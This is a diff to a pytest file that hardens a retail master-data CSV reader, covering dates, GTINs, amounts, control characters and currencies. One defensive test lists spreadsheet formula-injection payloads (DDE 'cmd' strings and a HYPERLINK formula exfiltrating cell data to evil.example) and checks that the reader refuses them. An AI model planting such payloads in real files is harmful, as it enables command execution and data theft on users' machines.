@@ -3,6 +3,8 @@ value; the records and keys a good file gives."""
 
 from __future__ import annotations
 
+import json
+import re
 from datetime import UTC, date, datetime
 from decimal import Decimal
 from pathlib import Path
@@ -11,8 +13,8 @@ import pytest
 
 from tillstream.core.topics import item_key, price_key
 from tillstream.masterdata.csv_file import MAX_PROBLEMS, MasterFileError
-from tillstream.masterdata.items_csv import read_items
-from tillstream.masterdata.prices_csv import describe_key, read_prices
+from tillstream.masterdata.items_csv import gtin_clashes, read_items
+from tillstream.masterdata.prices_csv import currency_clashes, describe_key, read_prices
 from tillstream.simulate.catalog import CATALOG, DEPOSITS, items_csv, prices_csv
 
 ITEMS = "sku,gtins,description,unit_of_measure,weighed,stock_item"
@@ -158,10 +160,11 @@ def test_the_last_day_of_the_calendar_is_a_day_like_any_other(tmp_path: Path, ro
 
 
 def test_values_out_of_range_are_problems_not_crashes(tmp_path: Path) -> None:
-    prices = write(tmp_path, f"{PRICES}\nMILK,,1,EUR,,9999-12-31T23:00:00-05:00\n", "p.csv")
+    # A start in the year 10000 in UTC (an end in 9999 is open-ended: see below).
+    prices = write(tmp_path, f"{PRICES}\nMILK,,1,EUR,9999-12-31T23:00:00-05:00,\n", "p.csv")
     error = problems(prices, read_prices)
     assert [str(p) for p in error.problems] == [
-        "row 2, column 'valid_until': out of range in UTC (years 1 to 9999)"
+        "row 2, column 'valid_from': out of range in UTC (years 1 to 9999)"
     ]
     items = write(tmp_path, f"{ITEMS},lead_time_days\nA,,Milk,EA,false,true,{'9' * 5000}\n")
     error = problems(items)
@@ -177,3 +180,166 @@ def test_a_file_that_cannot_be_read_says_so(tmp_path: Path) -> None:
     latin1 = tmp_path / "latin1.csv"
     latin1.write_bytes(f"{ITEMS}\nA,,Caf\xe9,EA,false,true\n".encode("latin-1"))
     assert "not UTF-8 text" in str(problems(latin1))
+
+
+# -- hardening round 3 (issue 23): head office's files, as strictly as the docs say ---------
+
+
+@pytest.mark.parametrize(
+    "until",
+    ["9999-12-31", "9999-12-31T23:59:59Z", "9999-12-31T23:00:00-05:00", "9999-01-01"],
+)
+def test_an_end_in_the_year_9999_is_published_as_open_ended(tmp_path: Path, until: str) -> None:
+    forever = read_prices(write(tmp_path, f"{PRICES}\nMILK,,1,EUR,2026-03-01,{until}\n"))
+    empty = read_prices(write(tmp_path, f"{PRICES}\nMILK,,1,EUR,2026-03-01,\n", "empty.csv"))
+    assert forever == empty  # one record: the same as an empty valid_until
+    (price,) = forever.values()
+    assert price["valid_until"] is None and price["valid_until_day"] is None
+    # The year before is an end like any other.
+    kept = read_prices(write(tmp_path, f"{PRICES}\nMILK,,1,EUR,,9998-12-31\n", "kept.csv"))
+    assert next(iter(kept.values()))["valid_until_day"] == date(9998, 12, 31)
+
+
+def test_a_gtin_in_two_lengths_is_one_gtin(tmp_path: Path) -> None:
+    error = problems(
+        write(
+            tmp_path,
+            f"{ITEMS}\n"
+            "A,4006381333931,Milk,EA,false,true\n"
+            "B,04006381333931,Milk too,EA,false,true\n"  # the same GTIN, as a GTIN-14
+            "C,96385074|00000096385074,Twice,EA,false,true\n",  # in one cell
+        )
+    )
+    assert [str(p) for p in error.problems] == [
+        "row 3, column 'gtins': a GTIN of row 2 too",
+        "row 4, column 'gtins': a GTIN is listed twice (in the same or another length)",
+    ]
+    # Across files (the master the topic would hold): the same rule.
+    master = [{"sku": "A", "gtins": ["4006381333931"]}, {"sku": "B", "gtins": ["04006381333931"]}]
+    assert gtin_clashes(master) == ["GTIN 04006381333931 would be on A and on B"]
+
+
+@pytest.mark.parametrize(
+    "amount", ["1e3", "1E3", "\uff11.00", "1_000", "1,00", "+1", " 1 .0", "١", "0x10", "1.2.3"]
+)
+def test_an_amount_is_ascii_digits_and_a_point(tmp_path: Path, amount: str) -> None:
+    path = write(tmp_path, f'{PRICES}\nMILK,,"{amount}",EUR,,\n')
+    error = problems(path, read_prices)
+    assert [str(p) for p in error.problems] == [
+        "row 2, column 'amount': not a decimal number (ASCII digits, a '.' for the decimal point)"
+    ]
+    items = write(tmp_path, f'{ITEMS},reorder_point\nA,,Milk,EA,false,true,"{amount}"\n', "i.csv")
+    assert [(p.row, p.column) for p in problems(items).problems] == [(2, "reorder_point")]
+
+
+@pytest.mark.parametrize("amount", ["1", "1.5", "1.", ".5", "0.0000", "0012.30"])
+def test_amounts_as_the_docs_say_are_read(tmp_path: Path, amount: str) -> None:
+    (price,) = read_prices(write(tmp_path, f"{PRICES}\nMILK,,{amount},EUR,,\n")).values()
+    assert price["amount"] == Decimal(amount)
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "Milk\x00 1 l",  # NUL: PostgreSQL refuses it in text
+        "Milk \x1b[31m1 l",  # ESC: a terminal sequence through tail
+        "Milk\n1 l",
+        "Milk\r\n1 l",
+        "Milk\t1 l",
+        "Milk 1 l\n",  # around the value too
+        "Milk\x7f",  # DEL
+        "Milk\x9b31m",  # C1 CSI
+        "Milk\u20281 l",  # a line separator
+    ],
+)
+def test_control_characters_are_refused_by_row_and_column(tmp_path: Path, cell: str) -> None:
+    quoted = cell.replace('"', '""')
+    path = write(
+        tmp_path,
+        f'{ITEMS},tax_class,supplier\nA,,"{quoted}",EA,false,true,"{quoted}",Dairy\n'
+        f'B,,Bread,EA,false,true,STD,"{quoted}"\n',
+    )
+    error = problems(path)
+    assert [(p.row, p.column) for p in error.problems] == [
+        (2, "description"),
+        (2, "tax_class"),
+        (3, "supplier"),
+    ]
+    assert all("control character" in p.message for p in error.problems)
+    assert "Milk" not in str(error)  # never the value
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=cmd|' /C calc'!A0",
+        '@HYPERLINK("http://evil.example/?"&A1,"Milk")',
+        "@SUM(1+1)",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        '-HYPERLINK("x")',
+        "\uff1dcmd|' /C calc'!A0",  # full-width =
+    ],
+)
+def test_spreadsheet_formulas_are_refused_by_row_and_column(tmp_path: Path, cell: str) -> None:
+    quoted = cell.replace('"', '""')
+    path = write(tmp_path, f'{ITEMS},supplier\nA,,"{quoted}",EA,false,true,"{quoted}"\n')
+    error = problems(path)
+    assert [(p.row, p.column) for p in error.problems] == [(2, "description"), (2, "supplier")]
+    assert all("spreadsheet formula" in p.message for p in error.problems)
+    assert "cmd" not in str(error) and "HYPERLINK" not in str(error)
+
+
+@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1"])
+def test_a_formula_behind_a_tab_or_cr_is_refused_too(tmp_path: Path, cell: str) -> None:
+    path = write(tmp_path, f'{ITEMS}\nA,,"{cell}",EA,false,true\n')
+    assert [(p.row, p.column) for p in problems(path).problems] == [(2, "description")]
+
+
+def test_text_that_only_looks_like_a_number_or_a_dash_inside_is_text(tmp_path: Path) -> None:
+    path = write(
+        tmp_path, f"{ITEMS}\nA,,Milk - 1 l = 1.03 kg @ 4°C,EA,false,true\nB,,-1,EA,false,true\n"
+    )
+    assert len(read_items(path)) == 2
+
+
+def test_a_store_and_the_chain_price_in_one_currency(tmp_path: Path) -> None:
+    path = write(
+        tmp_path,
+        f"{PRICES}\n"
+        "MILK,,1.19,EUR,,\n"
+        "BREAD,,2.00,USD,,\n"  # the chain in two currencies
+        "MILK,S001,0.99,EUR,,\n"
+        "BREAD,S001,1.99,CHF,,\n"  # a store in two
+        "MILK,S002,1.50,CHF,,\n",  # another store in its own: fine
+    )
+    error = problems(path, read_prices)
+    assert [str(p) for p in error.problems] == [
+        "row 3, column 'currency': the chain's prices are in EUR (row 2): one currency per store",
+        "row 5, column 'currency': this store's prices are in EUR (row 4): one currency per store",
+    ]
+    # Against what the topic holds: the same rule over the whole master.
+    held = [{"store_id": None, "currency": "EUR"}, {"store_id": "S1", "currency": "EUR"}]
+    wanted = [{"store_id": "S1", "currency": "USD"}, {"store_id": "S2", "currency": "USD"}]
+    assert currency_clashes([*held, *wanted]) == ["store S1 would have prices in EUR and in USD"]
+
+
+def test_the_docs_examples_are_read_and_the_json_shows_their_items(tmp_path: Path) -> None:
+    """docs/master-data.md: its item and price files are files the command publishes, and
+    its JSON answers show those files' items and prices, not others."""
+    docs = (Path(__file__).resolve().parent.parent / "docs" / "master-data.md").read_text()
+    item_file, price_file = re.findall(r"```csv\n(.*?)```", docs, re.S)
+    items = read_items(write(tmp_path, item_file, "items.csv"))
+    prices = read_prices(write(tmp_path, price_file, "prices.csv"))
+    skus = {item["sku"] for item in items.values()}
+    answers = [json.loads(block) for block in re.findall(r"```json\n(.*?)```", docs, re.S)]
+    shown = [answers[0], *answers[2]["items"], *answers[3]["prices"]]
+    live = [entry for entry in shown if not entry.get("deleted")]
+    assert live and {entry["sku"] for entry in live} <= skus
+    milk = items[item_key("MILK-1L")]
+    assert {k: answers[0][k] for k in ("description", "gtins", "tax_class")} == {
+        k: milk[k] for k in ("description", "gtins", "tax_class")
+    }
+    assert {entry["id"].encode() for entry in answers[3]["prices"] if not entry["deleted"]} == set(
+        prices
+    )
